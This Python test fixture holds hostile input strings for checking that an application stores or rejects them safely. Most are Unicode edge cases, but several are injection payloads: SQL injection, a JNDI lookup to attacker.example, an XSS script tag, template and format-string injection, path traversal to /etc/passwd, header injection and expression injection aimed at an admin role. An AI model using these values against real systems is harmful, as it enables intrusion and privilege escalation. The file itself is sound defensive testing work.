"""Texts that break programs. Each must be stored unchanged or rejected."""

import json
from typing import Any

_CONTROL = {f"control character {code:#04x}": chr(code) for code in [*range(0x20), *range(0x7F, 0xA0)]}

TEXTS: dict[str, str] = {
    **_CONTROL,
    "a zero byte between letters": "a\0b",
    "right to left override": "abc\u202edef\u202c",
    "right to left mark": "\u200fאבג\u200f",
    "isolates": "\u2066abc\u2069\u2067def\u2069",
    "zero width": "zero\u200bwidth\u200djoiner\u2060word",
    "zero width only": "\u200b\u200b\u2060",
    "a byte order mark": "\ufeffmark",
    "non-characters": "a\ufffe\uffff\U0010ffff",
    "private use": "\ue000\U000f0000",
    "the replacement character": "\ufffd",
    "line separators": "a\u2028b\u2029c",
    "spaces of all kinds": "a\u00a0b\u2003c\u3000d",
    "spaces only": "   ",
    "spaces around": "  around  ",
    "composed": "\u00e9\u00e0\u00fc",
    "decomposed": "e\u0301a\u0300u\u0308",
    "combining marks without end": "Z" + "\u0301\u0323" * 40,
    "one character that becomes eighteen": "\ufdfa" * 3,
    "full width": "ＦＵＬＬ　ｗｉｄｔｈ",
    "ligatures": "ﬀ ﬁ ﬂ",
    "letters that change their length with their case": "İıßẞŉ",
    "look-alikes": "аdmіn",
    "emoji": "🍰🧁",
    "emoji of several": "👩‍👩‍👧‍👦🏳️‍🌈👍🏽",
    "flags": "🇨🇦🇨",
    "beyond the basic plane": "𝕳𝖊𝖑𝖑𝖔 𠜎",
    "SQL": "'; DROP TABLE users; --",
    "SQL that is true": '" OR "1"="1',
    "an expression": "#pk = :pk OR attribute_exists(#sk)",
    "placeholders": "#name :value :set_name :add_version",
    "an update expression": "SET #role = :admin REMOVE #status",
    "a key of the table": "USER#usr_01JD4W0Q8V5E2M7T9X3K6B1ADM",
    "an attribute value": '{"S": "x"}',
    "another attribute value": '{"NULL": true}',
    "JSON": '{"role": "admin", "__type": "x"}',
    "a prototype": "__proto__",
    "a template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "a lookup": "${jndi:ldap://attacker.example/a}",
    "a format": "%s%n%x {0} {self.__class__}",
    "a script": "<script>alert(1)</script>",
    "a path": "../../etc/passwd",
    "a header": "a\r\nSet-Cookie: b=c",
    "escapes": "\\u0000\\x00\\n%00%0d%0a",
    "backslashes and quotes": "\\\\\"'`\\",
    "a number": "1e999",
    "null": "null",
    "NaN": "NaN",
    "nothing": "",
    "one character": "x",
    "a hundred and twenty": "y" * 120,
    "one too many for a name": "y" * 121,
    "four bytes a character, a hundred and twenty times": "🍰" * 120,
    "two thousand": "z" * 2000,
    "two hundred thousand": "w" * 200_000,
    "a megabyte": "v" * 1_048_576,
}

# Lone surrogates as JSON escapes. They have no encoding in UTF-8.
HALVES: dict[str, str] = {
    "half a pair, the first": '"\\ud800"',
    "half a pair, the second": '"\\udfff"',
    "a pair the wrong way round": '"\\ude00\\ud83c"',
    "half a pair among letters": '"a\\ud83cb"',
}
PLACE = "\x00the hostile text stands here\x00"


def with_text(body: Any, spelled: str) -> bytes:
    """Return `body` as JSON with PLACE replaced by the JSON text `spelled`."""
    return json.dumps(body, ensure_ascii=False).replace(json.dumps(PLACE), spelled).encode("utf-8", "surrogatepass")
